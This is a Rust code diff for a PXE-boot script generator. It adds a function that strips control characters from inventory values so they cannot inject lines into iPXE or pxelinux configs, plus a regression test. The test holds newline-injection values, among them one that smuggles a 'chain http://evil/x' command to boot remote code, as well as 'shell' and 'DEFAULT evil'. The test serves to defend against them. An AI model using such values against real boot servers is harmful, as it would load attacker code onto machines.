@@ -156,12 +156,26 @@ pub fn kiosk_args(m: &Machine) -> String {
     out.join(" ")
 }
 
+/// A value as it may stand inside one line of a generated script: control characters (which
+/// the inventory loader already refuses) become '?', so no value can ever end the line and
+/// start a command of its own, whatever built the inventory.
+fn one_line(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.chars().any(char::is_control) {
+        s.chars()
+            .map(|c| if c.is_control() { '?' } else { c })
+            .collect::<String>()
+            .into()
+    } else {
+        s.into()
+    }
+}
+
 /// The iPXE script for `mac`: loads the profile's kernel and initrd over HTTP.
 pub fn ipxe_script(inv: &Inventory, mac: &Mac, http_base: &str) -> String {
     let machine = inv.by_mac(mac);
     let who = machine
-        .and_then(|m| m.hostname.clone())
-        .unwrap_or_else(|| "unknown machine".into());
+        .and_then(|m| m.hostname.as_deref())
+        .map_or("unknown machine".into(), |h| one_line(h).into_owned());
     let Some(profile) = inv.profile_for(machine) else {
         let fix = match machine {
             Some(m) => format!("set profile = \"...\" in {}", m.source.display()),
@@ -173,7 +187,7 @@ pub fn ipxe_script(inv: &Inventory, mac: &Mac, http_base: &str) -> String {
     };
     let mut s = format!(
         "#!ipxe\n# pxelator: {who} ({mac}) profile {}\n",
-        profile.name
+        one_line(&profile.name)
     );
     match (profile.boot, &profile.kernel) {
         (BootKind::Local, _) | (_, None) => s.push_str("exit\n"),
@@ -189,10 +203,11 @@ pub fn ipxe_script(inv: &Inventory, mac: &Mac, http_base: &str) -> String {
                 line.push(' ');
                 line.push_str(&args);
             }
-            s.push_str(&line);
+            s.push_str(&one_line(&line));
             s.push('\n');
             if let Some(initrd) = &profile.initrd {
-                s.push_str(&format!("initrd {http_base}/files/{initrd}\n"));
+                s.push_str(&one_line(&format!("initrd {http_base}/files/{initrd}")));
+                s.push('\n');
             }
             s.push_str("boot\n");
         }
@@ -208,14 +223,15 @@ pub fn pxelinux_config(inv: &Inventory, mac: &Mac) -> Option<String> {
     match (profile.boot, &profile.kernel) {
         (BootKind::Pxelinux, Some(kernel)) => {
             let mut s = format!(
-                "DEFAULT pxelator\nPROMPT 0\nTIMEOUT 0\nLABEL pxelator\n  KERNEL {kernel}\n"
+                "DEFAULT pxelator\nPROMPT 0\nTIMEOUT 0\nLABEL pxelator\n  KERNEL {}\n",
+                one_line(kernel)
             );
             if let Some(initrd) = &profile.initrd {
-                s.push_str(&format!("  INITRD {initrd}\n"));
+                s.push_str(&format!("  INITRD {}\n", one_line(initrd)));
             }
             let args = kernel_line(machine, profile, "");
             if !args.is_empty() {
-                s.push_str(&format!("  APPEND {args}\n"));
+                s.push_str(&format!("  APPEND {}\n", one_line(&args)));
             }
             Some(s)
         }
@@ -398,6 +414,31 @@ mod tests {
             s.contains("initrd http://s/files/k/initrd.img\nboot\n"),
             "{s}"
         );
+    }
+
+    /// Issue 10: values with newlines in an inventory built without the loader (which
+    /// refuses them) still cannot add a line to a generated script.
+    #[test]
+    fn no_value_can_add_a_line_to_a_script() {
+        let mut inv = inv_with(BootKind::Ipxe, Some("quiet\nchain http://evil/x"));
+        let mut m = inv.machines()[0].clone();
+        m.hostname = Some("kiosk1\nshell".into());
+        let mut problems = vec![];
+        inv = Inventory::build(vec![m], vec![profile(BootKind::Ipxe)], &mut problems);
+        let s = ipxe_script(&inv, &MAC, "http://s");
+        let lines: Vec<&str> = s.lines().collect();
+        assert_eq!(lines.len(), 5, "{s}");
+        assert!(
+            !lines
+                .iter()
+                .any(|l| l.starts_with("chain") || l.starts_with("shell")),
+            "{s}"
+        );
+        let mut px = profile(BootKind::Pxelinux);
+        px.args = "a\nDEFAULT evil".into();
+        let inv = Inventory::build(inv.machines().to_vec(), vec![px], &mut problems);
+        let c = pxelinux_config(&inv, &MAC).unwrap();
+        assert!(!c.lines().any(|l| l.starts_with("DEFAULT evil")), "{c}");
     }
 
     #[test]
